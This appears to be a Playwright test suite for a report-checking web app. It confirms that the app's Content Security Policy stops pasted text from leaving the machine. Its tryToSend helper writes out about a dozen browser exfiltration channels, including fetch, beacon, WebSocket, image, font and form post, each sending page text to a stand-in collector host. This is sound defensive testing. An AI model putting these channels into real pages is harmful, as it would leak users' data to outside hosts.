// Nothing leaves the machine: a sink listens where every address but the page's own leads, and hears nothing while a
// report is pasted, checked, worked on and exported. A page without the policy shows that the sink does hear.

import { createServer } from 'node:net';
import type { Server } from 'node:net';
import { pathToFileURL } from 'node:url';
import type { Page } from '@playwright/test';
import { expect, test } from '@playwright/test';
import { QUIET } from '../../../playwright.config';
import { WRONG } from '../support';

const SINK = 4175;

test.describe.configure({ mode: 'serial' });
test.use({
  launchOptions: {
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    // Every name there is leads to the sink, but for those of the browser's maker: it asks them things of its own accord,
    // whatever page is open. What the page asks of them is caught by the list of its requests.
    args: [
      ...QUIET,
      // Or the browser would stop some of it for a reason of its own: that the sink is on this machine.
      '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests',
      `--host-resolver-rules=${[
        ...['google.com', 'googleapis.com', 'gstatic.com'].map((maker) => `MAP *.${maker} ~NOTFOUND`),
        `MAP * 127.0.0.1:${SINK}`,
        'EXCLUDE localhost',
      ].join(', ')}`,
    ],
  },
});

let sink: Server;
/** What was said to the sink. */
let heard: string[] = [];
/** How often it was called, whether or not anything was said. */
let calls = 0;

test.beforeAll(async () => {
  sink = createServer((socket) => {
    calls += 1;
    socket.on('data', (bytes) => heard.push(bytes.toString('latin1').slice(0, 200)));
    socket.on('error', () => undefined);
    setTimeout(() => socket.destroy(), 500);
  });
  await new Promise<void>((resolve) => sink.listen(SINK, '127.0.0.1', resolve));
});

test.afterAll(() => {
  sink.close();
});

test.beforeEach(() => {
  heard = [];
  calls = 0;
});

/** Everything by which a script could try to send a text away without leaving the page. */
async function tryToSend(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const away = 'http://collector.example/';
    const text = encodeURIComponent(document.body.textContent?.slice(0, 50) ?? '');
    const tries: Record<string, () => unknown> = {
      fetch: () => fetch(`${away}fetch?${text}`, { mode: 'no-cors' }),
      xhr: () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = reject;
          request.open('GET', `${away}xhr?${text}`);
          request.send();
        }),
      beacon: () => navigator.sendBeacon(`${away}beacon`, text),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket('ws://collector.example/socket');
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
      events: () =>
        new Promise((resolve, reject) => {
          const events = new EventSource(`${away}events`);
          events.onopen = resolve;
          events.onerror = reject;
        }),
      image: () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = `${away}image?${text}`;
        }),
      script: () => {
        const script = document.createElement('script');
        script.src = `${away}script`;
        document.head.append(script);
      },
      style: () => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = `${away}style`;
        document.head.append(link);
      },
      prefetch: () => {
        const link = document.createElement('link');
        link.rel = 'prefetch';
        link.href = `${away}prefetch`;
        document.head.append(link);
      },
      frame: () => {
        const frame = document.createElement('iframe');
        frame.src = `${away}frame`;
        document.body.append(frame);
      },
      form: () => {
        const form = document.createElement('form');
        form.action = `${away}form`;
        form.method = 'post';
        form.target = 'elsewhere';
        const frame = document.createElement('iframe');
        frame.name = 'elsewhere';
        document.body.append(frame, form);
        form.submit();
      },
      font: async () => {
        const font = new FontFace('away', `url(${away}font)`);
        await font.load();
      },
    };
    const through: string[] = [];
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
        through.push(name);
      } catch {
        // Stopped.
      }
    }
    return through;
  });
}

async function pasteAndExport(page: Page): Promise<void> {
  const editor = page.locator('gouji-text .cm-content');
  await editor.click();
  await editor.evaluate((target, text) => {
    const data = new DataTransfer();
    data.setData('text/plain', text);
    target.dispatchEvent(
      new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
    );
  }, WRONG);
  await expect(page.locator('.count.error b')).toHaveText('1');
  for (const what of ['批注版网页（.html）', '问题清单（.csv）', '数据表（.csv）', '核对结果，供程序使用（.json）']) {
    await page.getByRole('button', { name: '导出' }).click();
    const saved = page.waitForEvent('download');
    await page.getByRole('button', { name: what }).click();
    await saved;
  }
  await page.getByRole('button', { name: '审核意见' }).click();
  const saved = page.waitForEvent('download');
  await page.getByRole('button', { name: '保存为 Word' }).click();
  await saved;
}

test('the sink hears a page that has no policy', async ({ page }) => {
  await page.goto('http://localhost:4174/open.html');
  await tryToSend(page);
  await expect.poll(() => heard.length).toBeGreaterThan(5);
});

for (const [where, address] of [
  ['the site', 'http://localhost:4173/index.html'],
  ['the single file by double click', pathToFileURL('dist/gouji.html').href],
] as const) {
  test(`${where}: paste, check and export; nothing arrives`, async ({ page }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto(address);
    await expect(page.getByText('等待粘贴')).toBeVisible();
    await page.waitForTimeout(500);
    const own = asked.length;
    await pasteAndExport(page);
    await page.waitForTimeout(500);
    expect({ heard, calls }).toEqual({ heard: [], calls: 0 });
    // What is loaded while a report is there is the page's own code only.
    const origin = address.startsWith('file:') ? 'file:' : new URL(address).origin;
    for (const url of asked.slice(own)) expect(url).toMatch(new RegExp(`^(blob:|data:|${origin})`));
  });

  test(`${where}: what a script might try is stopped by the browser`, async ({ page }) => {
    await page.goto(address);
    await expect(page.getByText('等待粘贴')).toBeVisible();
    const refusals: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error') refusals.push(message.text());
    });
    await tryToSend(page);
    await page.waitForTimeout(1_500);
    // Chromium opens a line for a frame before it asks the policy, and then says nothing on it. That is one of the reasons
    // why the shipped code may hold no frame and no form: scripts/check-bundle.mjs.
    expect(heard).toEqual([]);
    expect(refusals.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThan(5);
  });
}
